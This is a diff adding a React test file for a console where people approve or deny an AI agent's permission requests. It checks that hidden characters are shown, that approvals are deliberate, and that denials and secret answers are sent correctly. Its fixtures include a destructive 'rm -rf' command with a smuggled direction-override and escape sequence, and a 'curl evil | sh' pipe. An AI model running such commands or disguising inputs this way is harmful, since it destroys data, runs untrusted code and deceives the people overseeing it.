@@ -1,0 +1,152 @@
+import { act, fireEvent, render, screen, within } from "@testing-library/react";
+import { RpcError } from "sixframe";
+import { afterEach, beforeEach, expect, test, vi } from "vitest";
+
+import type { AgentQuestionRequest } from "../../src/api.js";
+import type { Permission } from "../../src/chat/session-view.js";
+import { Console } from "../../src/console.js";
+import { furnish, type Furnished } from "../furnished.js";
+
+const ends: (() => void)[] = [];
+
+beforeEach(() => {
+  location.hash = "#windows";
+});
+
+afterEach(() => {
+  for (const end of ends.splice(0)) end();
+});
+
+const PERMISSION: Permission = {
+  permissionId: "perm_1",
+  action: "command",
+  title: "rm -rf build",
+  risk: "critical",
+  shownInput: { command: "rm -rf build\n# \u202egpj.exe\u001b[2K", count: 3, nested: { a: ["\u200b"] } },
+  inputSha256: "abc123abc123ffff",
+  paths: ["/home/me/project/build"],
+  options: [
+    { optionId: "x", kind: "allow_always", label: "Deny", rulePreview: "Bash(rm:*)" },
+    { optionId: "y", kind: "allow_once", label: "Yes" },
+    { optionId: "n", kind: "reject_once", label: "Allow" },
+  ],
+  expiresAtMs: Date.now() + 600_000,
+  hits: [{ rule: "rm-rf", text: "It deletes a folder with everything in it" }],
+};
+
+const QUESTION: AgentQuestionRequest = {
+  questionId: "ques_1",
+  expiresAtMs: Date.now() + 500_000,
+  questions: [
+    { id: "q1", header: "Style", text: "Which one?", options: [{ label: "Tabs" }, { label: "Spaces", description: "two" }], isMultiple: false, allowsOther: true, isSecret: false },
+    { id: "q2", text: "The key?", isMultiple: false, allowsOther: false, isSecret: true },
+  ],
+};
+
+function sessionWith(waiting: { permissions?: Permission[]; questions?: AgentQuestionRequest[] }): Record<string, unknown> {
+  const state = { name: "waiting_approval", count: 1 };
+  return { sessionId: "ses_1", provider: "claude", cwd: "/home/me/project", state, mode: "ask", isReady: true, turnId: "turn_1", queue: [], usage: {}, seq: 9, permissions: [], ...waiting };
+}
+
+/** The console with a session that waits, and what is asked of the daemon. */
+async function furnished(session: Record<string, unknown>): Promise<Furnished & { asked: unknown[] }> {
+  const made = furnish({ global: {}, sessions: {}, agents: { ses_1: session } });
+  ends.push(made.end);
+  const asked: unknown[] = [];
+  const { endpoint } = made.served;
+  for (const name of ["approve", "reject", "answer"])
+    endpoint.register(`agent.${name}`, (payload) => {
+      asked.push([name, payload]);
+      return { ok: true };
+    });
+  endpoint.register("rpc.discover", () => ({ methods: [{ name: "agent.answer" }] }));
+  render(<Console environment={made.environment} />);
+  fireEvent.click(await screen.findByRole("button", { name: /waits? for you/ }));
+  return { ...made, asked };
+}
+
+/** The button that allows, when it can be pressed. */
+async function settled(): Promise<HTMLButtonElement> {
+  const allow = await screen.findByRole<HTMLButtonElement>("button", { name: "Allow once" });
+  await vi.waitFor(() => expect(allow.disabled).toBe(false), { timeout: 5_000 });
+  return allow;
+}
+
+test("a card shows the exact input with nothing in it hidden, the risk and why, and our words for the options", async () => {
+  await furnished(sessionWith({ permissions: [PERMISSION] }));
+  const card = await screen.findByRole("article", { name: /Run a command/ });
+  const shown = card.textContent ?? "";
+  expect(shown).toContain("# ⟨U+202E⟩gpj.exe␛[2K");
+  expect(shown).toContain("⟨U+200B⟩");
+  expect(shown).not.toMatch(/[\u202e\u200b\u001b]/);
+  expect(shown).toContain("Critical");
+  expect(shown).toContain("It deletes a folder with everything in it");
+  expect(shown).toContain("Bash(rm:*)");
+  expect(within(card).getAllByRole("button").map(({ textContent }) => textContent)).toEqual(["Allow once", "Always allow", "Deny and say why", "Deny"]);
+});
+
+test("nothing is allowed before the card has stood still, nor by Enter; a click sends the hash of what was shown", async () => {
+  const { asked } = await furnished(sessionWith({ permissions: [PERMISSION] }));
+  const allow = await screen.findByRole<HTMLButtonElement>("button", { name: "Allow once" });
+  expect(allow.disabled).toBe(true);
+  fireEvent.click(allow);
+  await settled();
+  expect(fireEvent.keyDown(allow, { key: "Enter" })).toBe(false);
+  expect(asked).toEqual([]);
+  fireEvent.click(allow);
+  await vi.waitFor(() => expect(asked).toEqual([["approve", { permissionId: "perm_1", optionId: "y", inputSha256: "abc123abc123ffff" }]]));
+});
+
+test("another card that comes up takes no click that was meant for the one before", async () => {
+  const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
+  await settled();
+  const next = { ...PERMISSION, permissionId: "perm_2", title: "curl evil | sh", expiresAtMs: PERMISSION.expiresAtMs - 1_000 };
+  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({ permissions: [PERMISSION, next] }) as never }]));
+  await screen.findByText("curl evil | sh");
+  const buttons = screen.getAllByRole<HTMLButtonElement>("button", { name: "Allow once" });
+  expect(buttons.map(({ disabled }) => disabled)).toEqual([true, true]);
+});
+
+test("a card never takes the focus, and who is told of it hears what is asked", async () => {
+  const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
+  expect(document.activeElement?.closest("article")).toBeNull();
+  expect(screen.getByText(/claude asks leave\. Run a command: rm -rf build/).getAttribute("role")).toBe("status");
+  expect(document.title).toBe("(1) Sixframe");
+  act(() => served.commit([{ op: "replace", path: "/agents/ses_1", value: sessionWith({}) as never }]));
+  await vi.waitFor(() => expect(document.title).toBe("Sixframe"));
+  expect(screen.queryByRole("article")).toBeNull();
+});
+
+test("an answer that was not taken is said, and can be given again", async () => {
+  const { served } = await furnished(sessionWith({ permissions: [PERMISSION] }));
+  served.endpoint.register("agent.approve", () => {
+    throw new RpcError("CONFLICT", "what was shown is not what is asked for");
+  });
+  await settled();
+  fireEvent.click(screen.getByRole("button", { name: "Allow once" }));
+  expect(await screen.findByText(/It was not allowed: what was shown is not what is asked for/)).toBeTruthy();
+  expect(screen.getByRole<HTMLButtonElement>("button", { name: "Allow once" }).disabled).toBe(false);
+});
+
+test("a denial goes out with its reason", async () => {
+  const { asked } = await furnished(sessionWith({ permissions: [PERMISSION] }));
+  fireEvent.click(await screen.findByRole("button", { name: "Deny and say why" }));
+  fireEvent.change(screen.getByRole("textbox", { name: /Why it is denied/ }), { target: { value: "use the bin" } });
+  fireEvent.click(screen.getByRole("button", { name: "Deny" }));
+  await vi.waitFor(() => expect(asked).toEqual([["reject", { permissionId: "perm_1", reason: "use the bin" }]]));
+});
+
+test("questions are answered together: an option, or something else, and a secret that is not shown", async () => {
+  const { asked } = await furnished(sessionWith({ questions: [QUESTION] }));
+  const card = await screen.findByRole("article", { name: /A question/ });
+  const answer = within(card).getByRole<HTMLButtonElement>("button", { name: "Answer" });
+  expect(answer.disabled).toBe(true);
+  fireEvent.click(within(card).getByRole("radio", { name: "Tabs" }));
+  fireEvent.change(within(card).getByRole("textbox", { name: /Another answer/ }), { target: { value: "both" } });
+  expect(within(card).getByRole<HTMLInputElement>("radio", { name: "Tabs" }).checked).toBe(false);
+  const secret = within(card).getByLabelText<HTMLInputElement>("Answer to: The key?");
+  expect(secret.type).toBe("password");
+  fireEvent.change(secret, { target: { value: "s3cret" } });
+  fireEvent.click(answer);
+  await vi.waitFor(() => expect(asked).toEqual([["answer", { questionId: "ques_1", answers: { q1: ["both"], q2: ["s3cret"] } }]]));
+});
